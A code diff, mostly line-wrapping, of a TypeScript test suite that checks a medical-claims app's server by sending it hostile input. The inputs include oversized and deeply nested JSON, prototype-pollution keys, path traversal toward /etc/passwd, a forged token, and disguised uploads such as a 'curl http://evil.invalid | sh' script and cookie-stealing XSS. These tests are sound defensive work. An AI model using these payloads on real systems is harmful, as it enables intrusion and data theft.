@@ -31,16 +31,28 @@ interface Reply {
 
 const chinese = /[\u4e00-\u9fff]/;
 let serial = 0;
-const requestId = (label: string): string => `hostile-${label}-${(serial += 1).toString().padStart(4, '0')}`.replace(/[^A-Za-z0-9_-]/g, '-').slice(0, 64);
+const requestId = (label: string): string =>
+  `hostile-${label}-${(serial += 1).toString().padStart(4, '0')}`.replace(/[^A-Za-z0-9_-]/g, '-').slice(0, 64);
 
 async function login(base: string, user: string): Promise<string> {
-  const response = await fetch(`${base}/api/dev/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ user }) });
+  const response = await fetch(`${base}/api/dev/login`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ user }),
+  });
   const body = (await response.json()) as Envelope;
   if (!body.ok) throw new Error(`login ${user}: ${JSON.stringify(body)}`);
   return (body.data as { token: string }).token;
 }
 
-async function call(base: string, token: string | null, fn: string, action: string, payload: unknown, id = requestId(action)): Promise<Reply> {
+async function call(
+  base: string,
+  token: string | null,
+  fn: string,
+  action: string,
+  payload: unknown,
+  id = requestId(action),
+): Promise<Reply> {
   const response = await fetch(`${base}/api/fn/${fn}`, {
     method: 'POST',
     headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
@@ -49,8 +61,18 @@ async function call(base: string, token: string | null, fn: string, action: stri
   return { status: response.status, body: (await response.json()) as Envelope };
 }
 
-async function upload(base: string, token: string, bytes: Uint8Array, contentType: string, name = 'photo.jpg'): Promise<Reply> {
-  const response = await fetch(`${base}/api/files?name=${encodeURIComponent(name)}`, { method: 'POST', headers: { 'content-type': contentType, authorization: `Bearer ${token}` }, body: new Uint8Array(bytes) });
+async function upload(
+  base: string,
+  token: string,
+  bytes: Uint8Array,
+  contentType: string,
+  name = 'photo.jpg',
+): Promise<Reply> {
+  const response = await fetch(`${base}/api/files?name=${encodeURIComponent(name)}`, {
+    method: 'POST',
+    headers: { 'content-type': contentType, authorization: `Bearer ${token}` },
+    body: new Uint8Array(bytes),
+  });
   return { status: response.status, body: (await response.json()) as Envelope };
 }
 
@@ -61,7 +83,9 @@ function rawGet(base: string, rawPath: string): Promise<{ status: number; body: 
     const req = httpRequest({ host: url.hostname, port: url.port, path: rawPath, method: 'GET' }, (response) => {
       const chunks: Buffer[] = [];
       response.on('data', (chunk: Buffer) => chunks.push(chunk));
-      response.on('end', () => resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
+      response.on('end', () =>
+        resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }),
+      );
     });
     req.on('error', reject);
     req.end();
@@ -69,7 +93,12 @@ function rawGet(base: string, rawPath: string): Promise<{ status: number; body: 
 }
 
 /** Sends `total` bytes in 64 KB chunks (chunked transfer, no content-length) through Node's own client; resolves with the status or the client's error code. */
-function streamedPost(base: string, rawPath: string, total: number, headers: Record<string, string>): Promise<{ status: number | null; code: string | null }> {
+function streamedPost(
+  base: string,
+  rawPath: string,
+  total: number,
+  headers: Record<string, string>,
+): Promise<{ status: number | null; code: string | null }> {
   const url = new URL(base);
   return new Promise((resolve) => {
     let settled = false;
@@ -79,10 +108,13 @@ function streamedPost(base: string, rawPath: string, total: number, headers: Rec
         resolve(result);
       }
     };
-    const req = httpRequest({ host: url.hostname, port: url.port, path: rawPath, method: 'POST', headers }, (response) => {
-      response.resume();
-      response.on('end', () => done({ status: response.statusCode ?? null, code: null }));
-    });
+    const req = httpRequest(
+      { host: url.hostname, port: url.port, path: rawPath, method: 'POST', headers },
+      (response) => {
+        response.resume();
+        response.on('end', () => done({ status: response.statusCode ?? null, code: null }));
+      },
+    );
     req.on('error', (error: NodeJS.ErrnoException) => done({ status: null, code: error.code ?? error.message }));
     const chunk = Buffer.alloc(64 * 1024, 0x61);
     let sent = 0;
@@ -131,7 +163,8 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
   let li: string;
   let reviewer: string;
 
-  const myDraftCount = async (): Promise<number> => ((await call(server.base, zhang, 'claims', 'listMine', { status: 'all' })).body.data as { total: number }).total;
+  const myDraftCount = async (): Promise<number> =>
+    ((await call(server.base, zhang, 'claims', 'listMine', { status: 'all' })).body.data as { total: number }).total;
 
   beforeAll(async () => {
     const root = tempDir('yb-hostile-');
@@ -143,7 +176,11 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
     writeFileSync(path.join(siteDir, 'index.html'), '<!doctype html><title>H5</title>');
     writeFileSync(path.join(`${siteDir}-secret`, 'key.txt'), 'TOP-SECRET');
     server = await startChildServer(dataDir, { STATIC_DIR: siteDir });
-    [zhang, li, reviewer] = await Promise.all([login(server.base, 'zhangsan'), login(server.base, 'lisi'), login(server.base, 'reviewer')]);
+    [zhang, li, reviewer] = await Promise.all([
+      login(server.base, 'zhangsan'),
+      login(server.base, 'lisi'),
+      login(server.base, 'reviewer'),
+    ]);
   });
 
   afterAll(async () => {
@@ -167,7 +204,10 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
       ['5,000 deep', deep(5_000)],
       ['5,000 deep inside a field', `{"hospital":{"name":${deep(5_000)}}}`],
       ['an array 5,000 deep', `{"lineItems":${'['.repeat(5_000)}${']'.repeat(5_000)}}`],
-      ['70,000 characters (under the 100 KB body limit, over the draft limit)', JSON.stringify({ notes: 'x'.repeat(70_000) })],
+      [
+        '70,000 characters (under the 100 KB body limit, over the draft limit)',
+        JSON.stringify({ notes: 'x'.repeat(70_000) }),
+      ],
     ])('saveDraft with %s: 400 VALIDATION_FAILED, no draft left behind', async (_name, formJson) => {
       const before = await myDraftCount();
       const body = `{"action":"saveDraft","requestId":"${requestId('draft')}","payload":{"form":${formJson},"materials":{}}}`;
@@ -179,7 +219,14 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
     });
 
     it('a real draft the app would send is still saved, and nothing leaked into the prototype', async () => {
-      const reply = await call(server.base, zhang, 'claims', 'saveDraft', { form: { hospital: { name: '北京协和医院' }, lineItems: [{ name: '西药费', yuan: '12.5', amountFen: 1250, category: 'A' }], draft: { step: 'form', localId: 'lq2x7k3abcdefgh' } }, materials: {} });
+      const reply = await call(server.base, zhang, 'claims', 'saveDraft', {
+        form: {
+          hospital: { name: '北京协和医院' },
+          lineItems: [{ name: '西药费', yuan: '12.5', amountFen: 1250, category: 'A' }],
+          draft: { step: 'form', localId: 'lq2x7k3abcdefgh' },
+        },
+        materials: {},
+      });
       expect(reply.status).toBe(200);
       expect(await storedText(dataDir, server.storeEnv)).not.toContain('polluted');
     });
@@ -200,38 +247,64 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
       const before = await myDraftCount();
       const reply = await call(server.base, zhang, 'claims', 'createDraft', { title: text });
       expectRefused(reply, 400, 'VALIDATION_FAILED');
-      expect(reply.body.error?.issues).toEqual([{ path: 'title', message: expect.stringMatching(/^报销标题含有看不见的/) }]);
+      expect(reply.body.error?.issues).toEqual([
+        { path: 'title', message: expect.stringMatching(/^报销标题含有看不见的/) },
+      ]);
       expect(await myDraftCount()).toBe(before);
     });
 
-    it.each(hostileText)('hospital name, item name and bank name with %s: 400 (saveDraft and submit)', async (_name, text) => {
-      const before = await myDraftCount();
-      for (const form of [{ hospital: { name: text } }, { lineItems: [{ name: text }] }, { payout: { bankName: text } }]) {
-        const reply = await call(server.base, zhang, 'claims', 'saveDraft', { form, materials: {} });
-        expectRefused(reply, 400, 'VALIDATION_FAILED');
-        expect(reply.body.error?.issues?.[0]?.message).toMatch(/(医院名称|费用名称|开户银行)含有看不见的/);
-      }
-      const valid = validForm({ visit: { visitDate: recentDate(5) } });
-      for (const form of [{ ...valid, hospital: { name: text, level: 3 } }, { ...valid, lineItems: [{ name: text, amountFen: 100, category: 'A' }] }, { ...valid, payout: { ...valid.payout, bankName: text } }]) {
-        expectRefused(await call(server.base, zhang, 'claims', 'submit', { form }), 400, 'VALIDATION_FAILED');
-      }
-      expect(await myDraftCount()).toBe(before);
-    });
+    it.each(hostileText)(
+      'hospital name, item name and bank name with %s: 400 (saveDraft and submit)',
+      async (_name, text) => {
+        const before = await myDraftCount();
+        for (const form of [
+          { hospital: { name: text } },
+          { lineItems: [{ name: text }] },
+          { payout: { bankName: text } },
+        ]) {
+          const reply = await call(server.base, zhang, 'claims', 'saveDraft', { form, materials: {} });
+          expectRefused(reply, 400, 'VALIDATION_FAILED');
+          expect(reply.body.error?.issues?.[0]?.message).toMatch(/(医院名称|费用名称|开户银行)含有看不见的/);
+        }
+        const valid = validForm({ visit: { visitDate: recentDate(5) } });
+        for (const form of [
+          { ...valid, hospital: { name: text, level: 3 } },
+          { ...valid, lineItems: [{ name: text, amountFen: 100, category: 'A' }] },
+          { ...valid, payout: { ...valid.payout, bankName: text } },
+        ]) {
+          expectRefused(await call(server.base, zhang, 'claims', 'submit', { form }), 400, 'VALIDATION_FAILED');
+        }
+        expect(await myDraftCount()).toBe(before);
+      },
+    );
 
     // A lone surrogate cannot travel in a URL at all (percent-decoding gives U+FFFD): the other six can.
-    it.each(hostileText.filter(([name]) => name !== 'a lone surrogate'))('upload name with %s: 400, no file stored', async (_name, text) => {
-      const before = countFiles(path.join(dataDir, 'files'));
-      expectRefused(await upload(server.base, zhang, await jpegBytes('名字'), 'image/jpeg', `${text}.jpg`), 400, 'VALIDATION_FAILED');
-      expect(countFiles(path.join(dataDir, 'files'))).toBe(before);
-    });
+    it.each(hostileText.filter(([name]) => name !== 'a lone surrogate'))(
+      'upload name with %s: 400, no file stored',
+      async (_name, text) => {
+        const before = countFiles(path.join(dataDir, 'files'));
+        expectRefused(
+          await upload(server.base, zhang, await jpegBytes('名字'), 'image/jpeg', `${text}.jpg`),
+          400,
+          'VALIDATION_FAILED',
+        );
+        expect(countFiles(path.join(dataDir, 'files'))).toBe(before);
+      },
+    );
   });
 
   describe('item 11: personal fields are never stored in clear', () => {
     it('numbers as phone, account and id number are refused (they would escape sealing)', async () => {
       const before = await myDraftCount();
-      const reply = await call(server.base, zhang, 'claims', 'saveDraft', { form: { phone: 13611223344, payout: { accountNumber: 6222111122223333 } }, materials: {} });
+      const reply = await call(server.base, zhang, 'claims', 'saveDraft', {
+        form: { phone: 13611223344, payout: { accountNumber: 6222111122223333 } },
+        materials: {},
+      });
       expectRefused(reply, 400, 'VALIDATION_FAILED');
-      expect(reply.body.error?.issues?.map((issue) => issue.path).sort()).toEqual(['form.payout.accountNumber', 'form.phone']);
+      expect(reply.body.error?.issues?.map((issue) => issue.path).sort()).toEqual([
+        'form.payout.accountNumber',
+        'form.phone',
+      ]);
       expect(await myDraftCount()).toBe(before);
       expect(await storedText(dataDir, server.storeEnv)).not.toContain('13611223344');
       expect(await storedText(dataDir, server.storeEnv)).not.toContain('6222111122223333');
@@ -239,10 +312,17 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
 
     it('strings, and values with * in them, are sealed: get shows masks, the disk holds no digits', async () => {
       const id = idNumber('19750505', '246');
-      const saved = await call(server.base, zhang, 'claims', 'saveDraft', { form: { phone: '13611223344', payout: { accountNumber: '6222*111122229999' }, insured: { idNumber: id } }, materials: {} });
+      const saved = await call(server.base, zhang, 'claims', 'saveDraft', {
+        form: { phone: '13611223344', payout: { accountNumber: '6222*111122229999' }, insured: { idNumber: id } },
+        materials: {},
+      });
       expect(saved.status).toBe(200);
       const detail = await call(server.base, zhang, 'claims', 'get', { id: (saved.body.data as { id: string }).id });
-      const form = (detail.body.data as { form: { phone: string; payout: { accountNumber: string }; insured: { idNumber: string } } }).form;
+      const form = (
+        detail.body.data as {
+          form: { phone: string; payout: { accountNumber: string }; insured: { idNumber: string } };
+        }
+      ).form;
       expect(form.phone).toBe('136****3344');
       expect(form.insured.idNumber).toBe(`${id.slice(0, 3)}${'*'.repeat(11)}${id.slice(-4)}`);
       expect(form.payout.accountNumber).not.toContain('11112222');
@@ -259,7 +339,11 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
       ['a shell script as image/jpeg', Buffer.from('#!/bin/sh\ncurl http://evil.invalid | sh\n'), 'image/jpeg'],
       ['HTML as image/png', Buffer.from('<!doctype html><script>alert(document.cookie)</script>'), 'image/png'],
       ['a ZIP as image/webp', zip, 'image/webp'],
-      ['a shell script behind a JPEG magic number', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('\n#!/bin/sh\n')]), 'image/jpeg'],
+      [
+        'a shell script behind a JPEG magic number',
+        Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('\n#!/bin/sh\n')]),
+        'image/jpeg',
+      ],
       ['an SVG as image/png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'image/png'],
       ['a PDF (no upload of the app expects one)', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\n'), 'application/pdf'],
     ])('%s: 415 UNSUPPORTED_FILE_TYPE, nothing stored', async (_name, bytes, type) => {
@@ -273,25 +357,42 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
     });
 
     it('the stored type comes from the bytes, not from the client', async () => {
-      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } }).png().toBuffer();
+      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
+        .png()
+        .toBuffer();
       const asJpeg = await upload(server.base, zhang, new Uint8Array(png), 'image/jpeg', 'x.jpg');
       expect(asJpeg.status).toBe(200);
       expect(asJpeg.body.data).toMatchObject({ contentType: 'image/png', fileID: expect.stringMatching(/\.png$/) });
       const asText = await upload(server.base, zhang, new Uint8Array(await jpegBytes('文本')), 'text/plain', 'x.txt');
       expect(asText.body.data).toMatchObject({ contentType: 'image/jpeg', fileID: expect.stringMatching(/\.jpg$/) });
-      const url = (await (await fetch(`${server.base}/api/files/url`, { method: 'POST', headers: { authorization: `Bearer ${zhang}` }, body: JSON.stringify({ fileID: (asJpeg.body.data as { fileID: string }).fileID }) })).json()) as { data: { url: string } };
+      const url = (await (
+        await fetch(`${server.base}/api/files/url`, {
+          method: 'POST',
+          headers: { authorization: `Bearer ${zhang}` },
+          body: JSON.stringify({ fileID: (asJpeg.body.data as { fileID: string }).fileID }),
+        })
+      ).json()) as { data: { url: string } };
       expect((await fetch(`${server.base}${url.data.url}`)).headers.get('content-type')).toBe('image/png');
     });
   });
 
   describe('items 10 and 12: malformed URLs and static containment', () => {
-    it.each([['/%zz'], ['/%E0%A4%A'], ['/reviewer/%'], ['/%'], ['/%00'], ['/pages/%E0%A4%A/index'], ['/%ED%A0%80']])('GET %s: 400 BAD_REQUEST', async (rawPath) => {
-      const reply = await rawGet(server.base, rawPath);
-      expect(reply.status).toBe(400);
-      expect((JSON.parse(reply.body) as Envelope).error?.code).toBe('BAD_REQUEST');
-    });
+    it.each([['/%zz'], ['/%E0%A4%A'], ['/reviewer/%'], ['/%'], ['/%00'], ['/pages/%E0%A4%A/index'], ['/%ED%A0%80']])(
+      'GET %s: 400 BAD_REQUEST',
+      async (rawPath) => {
+        const reply = await rawGet(server.base, rawPath);
+        expect(reply.status).toBe(400);
+        expect((JSON.parse(reply.body) as Envelope).error?.code).toBe('BAD_REQUEST');
+      },
+    );
 
-    it.each([['/..%2fsite-secret/key.txt'], ['/%2e%2e/site-secret/key.txt'], ['/..%2f..%2f..%2f..%2fetc%2fpasswd'], ['/../site-secret/key.txt'], ['/%2e%2e%2f%2e%2e%2fdata%2fsecret.key']])('GET %s: never outside the static root', async (rawPath) => {
+    it.each([
+      ['/..%2fsite-secret/key.txt'],
+      ['/%2e%2e/site-secret/key.txt'],
+      ['/..%2f..%2f..%2f..%2fetc%2fpasswd'],
+      ['/../site-secret/key.txt'],
+      ['/%2e%2e%2f%2e%2e%2fdata%2fsecret.key'],
+    ])('GET %s: never outside the static root', async (rawPath) => {
       const reply = await rawGet(server.base, rawPath);
       expect(reply.status).toBeLessThan(500);
       expect(reply.body).not.toContain('TOP-SECRET');
@@ -304,8 +405,10 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
     });
 
     it('malformed escapes in API paths and queries are 4xx too', async () => {
-      for (const rawPath of ['/api/%zz', '/api/fn/%E0%A4%A', '/api/files/raw?fileID=%zz&expires=%&sig=%E0']) expect((await rawGet(server.base, rawPath)).status).toBeGreaterThanOrEqual(400);
-      for (const rawPath of ['/api/%zz', '/api/fn/%E0%A4%A', '/api/files/raw?fileID=%zz&expires=%&sig=%E0']) expect((await rawGet(server.base, rawPath)).status).toBeLessThan(500);
+      for (const rawPath of ['/api/%zz', '/api/fn/%E0%A4%A', '/api/files/raw?fileID=%zz&expires=%&sig=%E0'])
+        expect((await rawGet(server.base, rawPath)).status).toBeGreaterThanOrEqual(400);
+      for (const rawPath of ['/api/%zz', '/api/fn/%E0%A4%A', '/api/files/raw?fileID=%zz&expires=%&sig=%E0'])
+        expect((await rawGet(server.base, rawPath)).status).toBeLessThan(500);
     });
   });
 
@@ -316,7 +419,13 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
       ['/api/files?name=big.jpg', 'image/jpeg'],
     ])('%s, 5 times in a row (Node client, chunked)', async (rawPath, type) => {
       const results = [];
-      for (let round = 0; round < 5; round += 1) results.push(await streamedPost(server.base, rawPath, TWELVE_MB, { 'content-type': type, authorization: `Bearer ${zhang}` }));
+      for (let round = 0; round < 5; round += 1)
+        results.push(
+          await streamedPost(server.base, rawPath, TWELVE_MB, {
+            'content-type': type,
+            authorization: `Bearer ${zhang}`,
+          }),
+        );
       expect(results).toEqual(Array.from({ length: 5 }, () => ({ status: 413, code: null })));
     });
 
@@ -330,14 +439,23 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
             controller.enqueue(new Uint8Array(256 * 1024).fill(0x7b));
           },
         });
-        const response = await fetch(`${server.base}/api/fn/claims`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${zhang}` }, body, duplex: 'half' } as RequestInit);
+        const response = await fetch(`${server.base}/api/fn/claims`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json', authorization: `Bearer ${zhang}` },
+          body,
+          duplex: 'half',
+        } as RequestInit);
         expect(response.status).toBe(413);
         expect(((await response.json()) as Envelope).error?.code).toBe('PAYLOAD_TOO_LARGE');
       }
     });
 
     it('a declared 12 MB body (content-length) too', async () => {
-      const response = await fetch(`${server.base}/api/files?name=big.jpg`, { method: 'POST', headers: { 'content-type': 'image/jpeg', authorization: `Bearer ${zhang}` }, body: new Uint8Array(TWELVE_MB) });
+      const response = await fetch(`${server.base}/api/files?name=big.jpg`, {
+        method: 'POST',
+        headers: { 'content-type': 'image/jpeg', authorization: `Bearer ${zhang}` },
+        body: new Uint8Array(TWELVE_MB),
+      });
       expect(response.status).toBe(413);
     });
 
@@ -347,8 +465,19 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
   });
 
   describe('item 12: recordSubscriptions takes the three template keys only', () => {
-    it.each([['{"__proto__":"accept"}'], ['{"__proto__":{"paid":"accept"}}'], ['{"constructor":"accept"}'], ['{"toString":"accept"}']])('%s: 400', async (results) => {
-      const reply = await call(server.base, zhang, 'notifications', 'recordSubscriptions', `{"action":"recordSubscriptions","payload":{"results":${results}}}`);
+    it.each([
+      ['{"__proto__":"accept"}'],
+      ['{"__proto__":{"paid":"accept"}}'],
+      ['{"constructor":"accept"}'],
+      ['{"toString":"accept"}'],
+    ])('%s: 400', async (results) => {
+      const reply = await call(
+        server.base,
+        zhang,
+        'notifications',
+        'recordSubscriptions',
+        `{"action":"recordSubscriptions","payload":{"results":${results}}}`,
+      );
       expectRefused(reply, 400, 'VALIDATION_FAILED');
     });
   });
@@ -357,12 +486,18 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
     it('sent-messages: 401 without a token, 403 for a claimant, 200 for a reviewer', async () => {
       const anonymous = await fetch(`${server.base}/api/dev/sent-messages`);
       expect(anonymous.status).toBe(401);
-      const claimant = await fetch(`${server.base}/api/dev/sent-messages`, { headers: { authorization: `Bearer ${li}` } });
+      const claimant = await fetch(`${server.base}/api/dev/sent-messages`, {
+        headers: { authorization: `Bearer ${li}` },
+      });
       expect(claimant.status).toBe(403);
       expect(((await claimant.json()) as Envelope).error?.message).toMatch(chinese);
-      const forged = await fetch(`${server.base}/api/dev/sent-messages`, { headers: { authorization: `Bearer ${reviewer.slice(0, -2)}xx` } });
+      const forged = await fetch(`${server.base}/api/dev/sent-messages`, {
+        headers: { authorization: `Bearer ${reviewer.slice(0, -2)}xx` },
+      });
       expect(forged.status).toBe(401);
-      const staff = await fetch(`${server.base}/api/dev/sent-messages`, { headers: { authorization: `Bearer ${reviewer}` } });
+      const staff = await fetch(`${server.base}/api/dev/sent-messages`, {
+        headers: { authorization: `Bearer ${reviewer}` },
+      });
       expect(staff.status).toBe(200);
       expect(((await staff.json()) as Envelope).ok).toBe(true);
     });
@@ -372,7 +507,13 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
     const form = validForm({ visit: { visitDate: recentDate(10) } });
     const materials: Record<string, string[]> = {};
     for (const item of checklistOf(form as never, true).filter((entry) => entry.required)) {
-      const stored = await upload(server.base, zhang, new Uint8Array(await jpegBytes(`${item.id} ${requestId('m')}`)), 'image/jpeg', `${item.id}.jpg`);
+      const stored = await upload(
+        server.base,
+        zhang,
+        new Uint8Array(await jpegBytes(`${item.id} ${requestId('m')}`)),
+        'image/jpeg',
+        `${item.id}.jpg`,
+      );
       materials[item.id] = [(stored.body.data as { fileID: string }).fileID];
     }
     const submitted = await call(server.base, zhang, 'claims', 'submit', { form: { ...form, materials } });
@@ -381,7 +522,13 @@ describe('hostile input over HTTP (server on loopback, default settings)', () =>
     expect(await storedText(dataDir, server.storeEnv)).not.toContain(bankAccount);
     const id = (submitted.body.data as { id: string }).id;
     for (const reasonText of ['材料\u0000不全', '材料\u202e不全', '\ufeff材料不全', '材料不全\ud800']) {
-      const reply = await call(server.base, reviewer, 'review', 'decide', { id, expectedStatus: 'submitted', action: 'reject', reasonCode: 'other', reasonText });
+      const reply = await call(server.base, reviewer, 'review', 'decide', {
+        id,
+        expectedStatus: 'submitted',
+        action: 'reject',
+        reasonCode: 'other',
+        reasonText,
+      });
       expectRefused(reply, 400, 'VALIDATION_FAILED');
       expect(reply.body.error?.issues?.[0]?.message).toMatch(/^说明含有看不见的/);
     }
@@ -395,12 +542,17 @@ describe('item 13: the dev login is on only where it is meant to be', () => {
     try {
       await new Promise((resolve) => setTimeout(resolve, 200));
       expect(server.output()).toMatch(/开发登录：已关闭（监听的 0\.0\.0\.0 不是本机地址；确需开启请设置 DEV_LOGIN=1）/);
-      const loginReply = await fetch(`${server.base}/api/dev/login`, { method: 'POST', body: JSON.stringify({ user: 'reviewer' }) });
+      const loginReply = await fetch(`${server.base}/api/dev/login`, {
+        method: 'POST',
+        body: JSON.stringify({ user: 'reviewer' }),
+      });
       expect(loginReply.status).toBe(403);
       expect(((await loginReply.json()) as Envelope).error?.code).toBe('DEV_LOGIN_DISABLED');
       expect((await fetch(`${server.base}/api/dev/users`)).status).toBe(403);
       expect((await fetch(`${server.base}/api/dev/sent-messages`)).status).toBe(403);
-      expect((await call(server.base, 'eyJzdWIiOiJkZXYtb3BlbmlkLXJldmlld2VyIn0.x', 'review', 'queue', {})).status).toBe(401);
+      expect((await call(server.base, 'eyJzdWIiOiJkZXYtb3BlbmlkLXJldmlld2VyIn0.x', 'review', 'queue', {})).status).toBe(
+        401,
+      );
       expect((await fetch(`${server.base}/api/health`)).status).toBe(200);
     } finally {
       await server.kill();
@@ -413,7 +565,9 @@ describe('item 13: the dev login is on only where it is meant to be', () => {
       await new Promise((resolve) => setTimeout(resolve, 200));
       expect(server.output()).toMatch(/开发登录：已开启（DEV_LOGIN=1）。注意：监听的 0\.0\.0\.0 不是本机地址/);
       const token = await login(server.base, 'reviewer');
-      expect((await fetch(`${server.base}/api/dev/sent-messages`, { headers: { authorization: `Bearer ${token}` } })).status).toBe(200);
+      expect(
+        (await fetch(`${server.base}/api/dev/sent-messages`, { headers: { authorization: `Bearer ${token}` } })).status,
+      ).toBe(200);
     } finally {
       await server.kill();
     }
@@ -424,7 +578,10 @@ describe('item 13: the dev login is on only where it is meant to be', () => {
     try {
       await new Promise((resolve) => setTimeout(resolve, 200));
       expect(server.output()).toMatch(/开发登录：已关闭（DEV_LOGIN=0）/);
-      expect((await fetch(`${server.base}/api/dev/login`, { method: 'POST', body: JSON.stringify({ user: 'zhangsan' }) })).status).toBe(403);
+      expect(
+        (await fetch(`${server.base}/api/dev/login`, { method: 'POST', body: JSON.stringify({ user: 'zhangsan' }) }))
+          .status,
+      ).toBe(403);
     } finally {
       await server.kill();
     }
